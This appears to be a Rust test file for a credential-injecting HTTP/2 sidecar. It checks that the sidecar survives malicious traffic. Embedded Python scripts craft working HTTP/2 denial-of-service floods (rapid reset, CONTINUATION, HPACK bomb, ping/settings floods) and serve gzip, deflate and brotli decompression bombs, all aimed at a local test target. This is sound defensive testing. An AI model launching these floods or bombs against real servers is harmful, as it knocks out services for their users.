//! Malicious HTTP/2 over a connection that the sidecar terminates: it is ended or refused, other clients do not wait, and the sidecar's
//! memory stays small. The frames are written by hand, because no library would send them. DESIGN §3; RFC 9113 §10.5; CVE-2023-44487,
//! CVE-2024-27316, CVE-2019-9512, -9515, -9517, -9518; L07.

use lockgate_clients::{Canary, Left, Need, Site};

const NEEDS: &[Need] = &[Need::Program("curl"), Need::Program("python3")];
const POLICY: &str = "[[provider]]\nid = \"one\"\nauthorized_uris = [\"https://protocols.example/*\"]\nenv = \"ONE_TOKEN\"\n\
    inject = { header = \"authorization\", value = \"Bearer {{access_token}}\" }\n";
/// The most memory a sidecar may use, in KiB.
const MOST_MEMORY: u64 = 64 * 1024;
/// The most memory that empty frames may use, in KiB.
const MOST_FOR_FRAMES: u64 = 8 * 1024;

/// `flood.py KIND`: prints `KIND=ended` or `KIND=open` after a number of seconds or frames, and the last answer.
const FLOOD: &str = r#"import os, select, socket, ssl, struct, sys, time
kind = sys.argv[1]
HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION, DATA, PRIORITY = 1, 3, 4, 6, 8, 9, 0, 2
raw = socket.create_connection(("127.0.0.1", 8081))
raw.sendall(b"CONNECT protocols.example:443 HTTP/1.1\r\nHost: protocols.example:443\r\n\r\n")
assert b" 200 " in raw.recv(4096)
trust = ssl.create_default_context(cafile=os.environ["OUT"] + "/ca.pem")
trust.set_alpn_protocols(["h2"])
link = trust.wrap_socket(raw, server_hostname="protocols.example")
assert link.selected_alpn_protocol() == "h2"
link.setblocking(False)
def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
def literal(name, value):
    text = lambda t: (bytes([len(t)]) if len(t) < 127 else b"\x7f" + number(len(t) - 127)) + t
    return b"\0" + text(name) + text(value)
def number(n):
    out = b""
    while n >= 128:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])
def head(path=b"/flood", method=b"GET"):
    return literal(b":method", method) + b"\x87" + literal(b":path", path) + literal(b":authority", b"protocols.example")
ended, frames_sent, came = False, 0, bytearray()
def hear():
    global ended
    try:
        while piece := link.recv(65536):
            came.extend(piece)
            del came[:-100000]
        ended = True
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    except OSError:
        ended = True
def say(octets, deaf=False, patience=3):
    global ended, frames_sent
    until = time.monotonic() + patience
    view = memoryview(octets)
    while view and not ended and time.monotonic() < until:
        if not deaf: hear()
        try:
            view = view[link.send(view):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            select.select([] if deaf else [link], [link], [], 0.05)
        except OSError:
            ended = True
    frames_sent += 1
    return not view and not ended
def flood(piece, times, deaf=False):
    for at in range(times):
        if not say(piece(at), deaf): return
say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
many = lambda make, of=50: (lambda at: b"".join(make(at * of + i) for i in range(of)))
if kind == "reset":
    flood(many(lambda n: frame(HEADERS, 5, 2 * n + 1, head()) + frame(RST, 0, 2 * n + 1, b"\0\0\0\x08")), 2000)
if kind == "slowreset":
    flood(lambda n: frame(HEADERS, 5, 2 * n + 1, head(b"/stall")) + frame(RST, 0, 2 * n + 1, b"\0\0\0\x08"), 20000)
if kind == "continuation":
    say(frame(HEADERS, 1, 1, head()))
    flood(lambda n: frame(CONTINUATION, 0, 1, literal(b"x-%d" % n, b"a" * 8000)), 20000)
if kind == "emptycontinuation":
    say(frame(HEADERS, 1, 1, head()))
    flood(many(lambda n: frame(CONTINUATION, 0, 1)), 20000)
if kind == "headers":
    block = head() + b"".join(literal(b"x-%d" % n, b"a" * 1000) for n in range(100))
    parts = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    say(frame(HEADERS, 1, 1, parts[0]) + b"".join(frame(CONTINUATION, 0, 1, p) for p in parts[1:-1]) + frame(CONTINUATION, 4, 1, parts[-1]))
if kind == "bomb":
    # A large field once, and then by its index, an octet each (CVE-2016-6581).
    first = b"\x40" + literal(b"x-big", b"a" * 3900)[1:]
    say(frame(HEADERS, 5, 1, head() + first))
    flood(lambda n: frame(HEADERS, 5, 2 * n + 3, head() + b"\xbe" * 16000), 200)
if kind == "settings": flood(many(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, n % 100 + 1))), 20000, True)
if kind == "ping": flood(many(lambda n: frame(PING, 0, 0, b"8 octets")), 20000, True)
if kind == "priority": flood(many(lambda n: frame(PRIORITY, 0, 2 * n + 1, b"\0\0\0\0\x10")), 5000)
if kind == "window": flood(lambda n: frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff"), 10)
if kind == "unasked":
    say(frame(HEADERS, 4, 1, head(method=b"POST")))
    flood(lambda n: frame(DATA, 0, 1, b"a" * 16000), 20000)
if kind == "empty":
    say(frame(HEADERS, 4, 1, head(b"/stall", b"POST")))
    flood(many(lambda n: frame(DATA, 0, 1)), 5000)
if kind == "streams":
    flood(lambda n: frame(HEADERS, 5, 2 * n + 1, head(b"/stall")), 3000)
if kind == "deaf":
    for n in range(90): say(frame(WINDOW, 0, 0, b"\0\x0f\xff\xff") + frame(HEADERS, 5, 2 * n + 1, head(b"/big?bytes=100000000")), True)
    time.sleep(3)
if kind == "preface": say(b"GET / HTTP/1.1\r\n\r\n" * 1000)
if kind == "large": say(b"\xff\xff\xff\0\0\0\0\0\1" + b"a" * 100000)
if kind != "deaf":
    until = time.monotonic() + 1
    while not ended and time.monotonic() < until:
        hear(); time.sleep(0.02)
refused = b"\0\0\x04\x03\0" in came
print("%s=%s %d%s%s" % (kind, "ended" if ended else "open", frames_sent, " goaway" if b"\x07\0\0\0\0\0" in came else "", " reset" if refused else ""))
"#;

fn flooded(kinds: &[&str]) -> Option<(Site, Left)> {
    let site = Site::for_test(NEEDS)?;
    let canary = Canary::draw();
    site.keep("one", "access_token", canary.text());
    let flood = site.file("flood.py", FLOOD);
    let mut script = "ok() { code $1 via https://protocols.example/echo; }; memory() { echo \"$1-memory=$(sed -n 's/^VmHWM:[^0-9]*\\([0-9]*\\).*/\\1/p' /proc/$serving/status)\"; }; ok before; memory before\n".to_owned();
    for kind in kinds {
        // Another client sends a request meanwhile.
        script += &format!(
            "timeout 60 /usr/bin/python3 {} {kind} & flood=$!; sleep 0.5; ok {kind}-meanwhile; wait $flood; ok {kind}-after; memory {kind}\n",
            flood.display()
        );
    }
    let left = site.beside(POLICY).script(&script);
    for kind in kinds {
        for when in ["meanwhile", "after"] {
            assert_eq!(left.said(&format!("{kind}-{when}")), "200", "{}", left.ended);
        }
        let memory: u64 = left.said(&format!("{kind}-memory")).parse().expect("a number");
        assert!(memory < MOST_MEMORY, "{kind}: {memory} KiB: {}", left.ended);
        assert!(left.ended.stdout.contains(&format!("{kind}=")), "{}", left.ended);
    }
    canary.is_not_in("what was said", format!("{}", left.ended));
    Some((site, left))
}

#[test]
fn streams_that_are_begun_and_dropped() {
    // L06, L07; CVE-2023-44487
    let Some((site, left)) = flooded(&["reset", "slowreset"]) else { return };
    for kind in ["reset", "slowreset"] {
        assert!(left.said(kind).starts_with("ended"), "{}", left.ended);
    }
    // The requests forwarded upstream are no flood either.
    let requests = site.requests().len();
    assert!(requests < 1000, "{requests} requests went on");
}

#[test]
fn heads_without_an_end() {
    // L06; CVE-2024-27316, CVE-2016-6581
    let Some((site, left)) = flooded(&["continuation", "emptycontinuation", "headers", "bomb"]) else {
        return;
    };
    for kind in ["continuation", "emptycontinuation"] {
        assert!(left.said(kind).starts_with("ended"), "{}", left.ended);
    }
    for kind in ["headers", "bomb"] {
        assert!(left.said(kind).starts_with("ended") || left.said(kind).contains("reset"), "{}", left.ended);
    }
    // The first head of `bomb` is small.
    let flooded = site.requests().iter().filter(|record| record.text("path") != "/echo").count();
    assert!(flooded <= 1, "{flooded} of them went on");
}

#[test]
fn frames_that_ask_for_an_answer_by_somebody_who_reads_none() {
    // L07; CVE-2019-9512, CVE-2019-9515
    // No single frame is wrong: it is enough that they cost nothing. How many pass before the sidecar stops reading depends on the buffers
    // of both sides.
    let Some((_, left)) = flooded(&["settings", "ping", "priority"]) else { return };
    let memory = |when: &str| left.said(&format!("{when}-memory")).parse::<u64>().expect("a number");
    for kind in ["settings", "ping", "priority"] {
        assert!(memory(kind) < memory("before") + MOST_FOR_FRAMES, "{kind}: {}", left.ended);
    }
}

#[test]
fn windows_and_frames_that_break_the_rules() {
    // L06; RFC 9113 §6.9.1, §4.2
    let Some((_, left)) = flooded(&["window", "unasked", "large", "preface"]) else { return };
    for kind in ["window", "unasked", "large", "preface"] {
        let said = left.said(kind);
        assert!(
            said.starts_with("ended") || said.contains("goaway") || said.contains("reset"),
            "{}",
            left.ended
        );
    }
}

/// An upstream whose small answers unpack to a GiB and more: zeros in gzip, and in brotli the same 97 octets per MiB.
const BOMBS: &str = r#"import base64, socket, threading, zlib
first = base64.b64decode("9P8fAEgAxGOB5N4H6P8/AJAAiMMC0L0P0P9/ACABEIcFoHsfoP//AEACIA4LQPc+QP//AYAEQBwWgO59gP7/AwAJgDgsAN37AP3/BwASAHFYALr3Afr/DwAkAOKwAHTvAw==")
again = base64.b64decode("9P8fAEgAxGEB6N4H6P8/AJAAiMMC0L0P0P9/ACABEIcFoHsfoP//AEACIA4LQPc+QP//AYAEQBwWgO59gP7/AwAJgDgsAN37AP3/BwASAHFYALr3Afr/DwAkAOKwAHTvAw==")
packer = zlib.compressobj(9, zlib.DEFLATED, 31)
zeros = b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush()
bodies = {b"/br": (b"br", first + again * 1100), b"/gzip": (b"gzip", zeros * 4), b"/deflate": (b"deflate", zlib.compress(bytes(1 << 28), 9))}
def answer(link):
    head = b""
    while b"\r\n\r\n" not in head: head += link.recv(4096)
    coding, body = bodies[head.split(b" ")[1]]
    try: link.sendall(b"HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n" % (coding, len(body)) + body)
    except OSError: pass
server = socket.create_server(("127.0.0.1", 9200), backlog=64)
open("bombs.ready", "w").close()
while True: threading.Thread(target=answer, args=(server.accept()[0],), daemon=True).start()
"#;

#[test]
fn answers_that_unpack_to_more_than_anybody_needs() {
    // C10, L07
    // An answer that is searched for a credential is unpacked in pieces, never faster than it is read.
    let Some(site) = Site::for_test(NEEDS) else { return };
    site.keep("odd", "access_token", Canary::draw().text());
    let bombs = site.file("bombs.py", BOMBS);
    let policy = "[[provider]]\nid = \"odd\"\nauthorized_uris = [\"http://odd.example.com:9200/*\"]\naddresses = [\"127.0.0.1\"]\n\
        inject = { header = \"authorization\", value = \"Bearer {{access_token}}\" }\n";
    let mut script = format!(
        "/usr/bin/python3 {} & bombs=$!; await '[ -e bombs.ready ]'; rm bombs.ready\n",
        bombs.display()
    );
    for kind in ["gzip", "deflate", "br"] {
        script += &format!(
            "memory() {{ echo \"$1=$(sed -n 's/^VmHWM:[^0-9]*\\([0-9]*\\).*/\\1/p' /proc/$serving/status)\"; }}\n\
             proxy http://odd.example.com:9200/{kind} odd > got; grep -q 'unpacks to too much' got && echo refused || wc -c < got; rm got; pids=\n\
             for i in 1 2 3 4 5 6 7 8; do via --limit-rate 1000 --max-time 3 -o /dev/null http://odd.example.com:9200/{kind} 2>/dev/null & pids=\"$pids $!\"; done\n\
             wait $pids; memory {kind}\n"
        );
    }
    let left = site.beside(policy).script(&(script + "kill $bombs"));
    for kind in ["gzip", "deflate", "br"] {
        let memory: u64 = left.said(kind).parse().expect("a number");
        assert!(memory < MOST_MEMORY, "{kind}: {memory} KiB: {}", left.ended);
    }
    // The gateway returns the beginning, or refuses what unpacks to too much at once.
    let given = left.lines().filter(|line| ["50000", "refused"].contains(line)).count();
    assert_eq!(given, 3, "{}", left.ended);
}

#[test]
fn more_than_anybody_needs() {
    // L07: countless streams, empty pieces, and answers that nobody reads.
    let Some((site, left)) = flooded(&["streams", "empty", "deaf"]) else { return };
    assert!(
        left.said("streams").contains("reset") || left.said("streams").starts_with("ended"),
        "{}",
        left.ended
    );
    let stalled = site.requests().iter().filter(|record| record.text("path") == "/stall").count();
    assert!(stalled <= 101, "{stalled} streams at once");
}
